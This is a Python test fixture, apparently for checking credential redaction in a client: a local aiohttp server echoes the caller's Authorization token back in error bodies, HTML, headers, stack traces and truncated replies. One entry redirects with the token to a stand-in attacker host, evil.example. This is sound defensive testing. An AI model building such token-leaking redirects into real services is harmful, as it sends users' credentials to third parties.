"""A system that gives away the credential that it was asked with, in every way in which an answer can."""

from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass

from aiohttp import web

__all__ = ["WAYS", "Echoing"]


def _refused(status: int) -> Callable[[str], web.Response]:
    """The documented error of all three systems at once, the credential in each of its texts."""

    def answer(said: str) -> web.Response:
        words = f"the token {said} is not right"
        error = {"code": "validation_failed", "type": "invalid_request_error", "message": words, "param": "name"}
        problem = {"title": words, "detail": words, "errors": {"firstName": [words]}, "traceId": "t-1"}
        return web.json_response({"error": error, "message": words, "code": "X"} | problem, status=status)

    return answer


def _cut(said: str) -> web.Response:
    answer = web.Response(text=said, headers={"Content-Length": "1000"})
    answer.force_close()
    return answer


WAYS: dict[str, Callable[[str], web.Response]] = {
    **{f"a documented {status}": _refused(status) for status in (400, 401, 402, 403, 404, 409, 422, 429, 500, 503)},
    "a page": lambda said: web.Response(text=f"<html>{said}</html>", content_type="text/html"),
    "a page of a proxy": lambda said: web.Response(text=f"<html>{said}</html>", content_type="text/html", status=502),
    "another shape": lambda said: web.json_response({"id": {"token": said}, "data": said, "$meta": [said]}),
    "a stack": lambda said: web.Response(text=f"Traceback: at Authorization: {said}", status=500),
    "a redirect": lambda said: web.Response(status=302, headers={"Location": f"https://evil.example/?t={said}"}),
    "a header": lambda said: web.Response(status=418, headers={"Request-ID": "r-1", "X-Debug": said}, reason=said),
    "half of it": _cut,
    "no status that there is": lambda said: web.Response(status=599, text=said),
}


@dataclass
class Echoing:
    """The system; `way` is how it answers the next calls, `asked` how often it was called."""

    url: str = ""
    way: str = "a page"
    asked: int = 0

    async def answer(self, request: web.Request) -> web.Response:
        self.asked += 1
        return WAYS[self.way](request.headers.get("Authorization", "").rpartition(" ")[2])

    @asynccontextmanager
    async def served(self) -> AsyncIterator["Echoing"]:
        """It, behind a socket."""
        app = web.Application()
        app.router.add_route("*", "/{path:.*}", self.answer)
        runner = web.AppRunner(app, access_log=None)
        await runner.setup()
        try:
            await web.TCPSite(runner, "127.0.0.1", 0).start()
            self.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
            yield self
        finally:
            await runner.cleanup()
